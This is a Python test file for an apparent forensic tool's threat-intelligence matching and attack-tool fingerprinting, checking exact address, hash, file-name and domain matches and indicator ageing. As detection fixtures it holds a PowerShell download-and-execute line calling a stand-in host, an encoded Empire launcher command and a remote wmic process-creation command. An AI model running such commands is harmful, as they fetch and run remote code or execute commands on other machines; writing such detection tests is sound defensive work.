"""Matches of lists and traces of tools: hit, near miss, missing, and what looks alike."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from deep_dive.story_cases import at, rows_of_events, story
from magistrate.activity.model import Kind
from magistrate.intel.fingerprints import find_tools, fingerprints
from magistrate.intel.match import assess_intel, standing
from magistrate.intel.model import Indicator, IndicatorList, Standing, ValueKind
from magistrate.intel.queries import query_text
from magistrate.intel.types import list_types
from magistrate.intel.values import common_values
from magistrate.portable_sql import assert_portable
from magistrate.store.duckdb import DuckDBStore

END = datetime(2026, 3, 4, tzinfo=UTC)
SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider": "Microsoft-Windows-Sysmon"}
MD5 = "0123456789abcdef0123456789abcdef"


def entry(kind, value, days=None, **more):
    return Indicator(
        kind, value, "feed", "bad", END - timedelta(days=days) if days is not None else None, **more
    )


def assess(item, *events, stories=None):
    held = IndicatorList("a.csv", "CSV", "0" * 64, (item,))
    with DuckDBStore.in_memory(rows_of_events(*events)) as store:
        return assess_intel(store, [story()] if stories is None else stories, [held])


def flow(address):
    return {**SYSMON, "EventID": 3, "DestinationIp": address, "DestinationPort": "443", "Time": at(minutes=1)}


def started(**more):
    return {**SYSMON, "EventID": 1, "Image": "C:\\Users\\Public\\upd.exe", "Time": at(minutes=1), **more}


def test_an_outside_address_matches_with_its_record() -> None:
    match = assess(entry(ValueKind.ADDRESS, "203.0.113.9"), flow("203.0.113.9")).matches[0]

    assert dict(match.evidence.quoted) == {"DestinationIp": "203.0.113.9"}


def test_an_address_that_begins_alike_does_not_match() -> None:
    assert assess(entry(ValueKind.ADDRESS, "203.0.113.9"), flow("203.0.113.99")).matches == ()


def test_a_hash_matches_one_of_several_of_a_record() -> None:
    event = started(Hashes=f"SHA1={'a' * 40},MD5={MD5.upper()}")

    assert len(assess(entry(ValueKind.HASH, MD5), event).matches) == 1


def test_a_hash_that_is_not_recorded_does_not_match() -> None:
    assert assess(entry(ValueKind.HASH, MD5), started()).matches == ()


@pytest.mark.parametrize(("name", "number"), [("upd.exe", 1), ("pd.exe", 0), (".*", 0), ("%", 0)])
def test_a_file_name_is_compared_whole_and_never_as_a_pattern(name, number) -> None:
    assert len(assess(entry(ValueKind.FILE, name), started()).matches) == number


def test_a_domain_in_a_decoded_script_matches() -> None:
    acting = story(decoded="iex (iwr http://cdn.example.com/a.ps1)")

    assert len(assess(entry(ValueKind.DOMAIN, "cdn.example.com"), stories=[acting]).matches) == 1


def test_a_domain_that_ends_alike_does_not_match() -> None:
    acting = story(decoded="iwr http://notcdn.example.com/a.ps1")

    assert assess(entry(ValueKind.DOMAIN, "cdn.example.com"), stories=[acting]).matches == ()


@pytest.mark.parametrize(
    ("kind", "days", "expected"),
    [
        (ValueKind.HASH, 5, Standing.CURRENT),
        (ValueKind.HASH, 31, Standing.EXPIRED),
        (ValueKind.HASH, None, Standing.UNDATED),
        (ValueKind.ADDRESS, 89, Standing.EXPIRED),
        (ValueKind.ADDRESS, 91, Standing.CONTEXT),
    ],
)
def test_the_age_at_the_last_event_says_what_an_entry_is_worth(kind, days, expected) -> None:
    assert standing(entry(kind, "x", days), END) is expected


def test_an_entry_past_its_own_end_is_expired() -> None:
    item = entry(ValueKind.HASH, MD5, 5, valid_until=END - timedelta(days=1))

    assert standing(item, END) is Standing.EXPIRED


@pytest.mark.parametrize("entry_", fingerprints(), ids=lambda item: item.tool)
def test_every_fingerprint_says_where_it_is_from(entry_) -> None:
    assert entry_.source.startswith("triage practice 3.2")


def test_the_launcher_of_empire_is_named_as_a_tool() -> None:
    acting = story(command="powershell.exe -NoP  -sta -w 1 -enc SQBFAFgA")

    assert [item.tool for item in find_tools([acting])] == ["Empire launcher over WMI"]


@pytest.mark.parametrize(
    "command", ["powershell.exe -NoP -NonI -w 1 -enc SQBFAFgA", "powershell.exe -File backup.ps1", None]
)
def test_other_powershell_names_no_tool(command) -> None:
    assert find_tools([story(command=command)]) == ()


def test_texts_without_records_name_no_tool() -> None:
    assert find_tools([]) == ()


def test_a_wmic_command_with_one_node_is_no_mass_start() -> None:
    command = "wmic /node:srv01 process call create calc.exe"
    few, many = story(command=command, targets=("a",)), story(command=command, targets=("a", "b", "c"))

    assert (len(find_tools([few])), len(find_tools([many]))) == (0, 1)


@pytest.mark.parametrize("name", ["equal", "files"])
def test_the_queries_run_on_every_engine(name) -> None:
    assert_portable(query_text(name), name)


def test_every_format_has_types_and_the_empty_file_is_common() -> None:
    types = list_types()

    assert types.csv
    assert types.misp
    assert types.stix
    assert (ValueKind.HASH, "d41d8cd98f00b204e9800998ecf8427e") in common_values()
    assert Kind.CHILD in {kind for item in fingerprints() for kind in item.kinds}
